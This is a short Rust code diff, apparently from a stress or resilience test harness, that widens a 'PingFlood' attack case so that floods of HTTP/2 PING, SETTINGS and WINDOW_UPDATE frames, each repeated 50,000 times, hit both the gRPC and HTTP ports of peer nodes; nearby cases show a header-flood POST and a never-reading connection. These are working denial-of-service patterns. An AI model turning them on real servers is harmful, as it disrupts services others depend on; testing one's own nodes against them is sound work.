@@ -136,9 +136,11 @@ impl Attack {
                 over_and_over(peers, http, 8, format!("POST / HTTP/1.1\r\n{fields}\r\n").into_bytes(), Then::Answer);
             }
             Self::PingFlood => {
-                over_and_over(peers, grpc, 8, hello(frame(PING, 0, 0, &[7; 8]).repeat(50_000)), Then::Answer);
-                over_and_over(peers, grpc, 8, hello(frame(SETTINGS, 0, 0, &[]).repeat(50_000)), Then::Answer);
-                over_and_over(peers, grpc, 8, hello(frame(WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1]).repeat(50_000)), Then::Answer);
+                for (port, many) in [(grpc, 8), (http, 4)] {
+                    over_and_over(peers, port, many, hello(frame(PING, 0, 0, &[7; 8]).repeat(50_000)), Then::Answer);
+                    over_and_over(peers, port, many, hello(frame(SETTINGS, 0, 0, &[]).repeat(50_000)), Then::Answer);
+                    over_and_over(peers, port, many, hello(frame(WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1]).repeat(50_000)), Then::Answer);
+                }
             }
             Self::NeverReading => {
                 let one = |number: u32| call(number * 2 + 1, false, &request(None, &field(2, &[0; 0])));
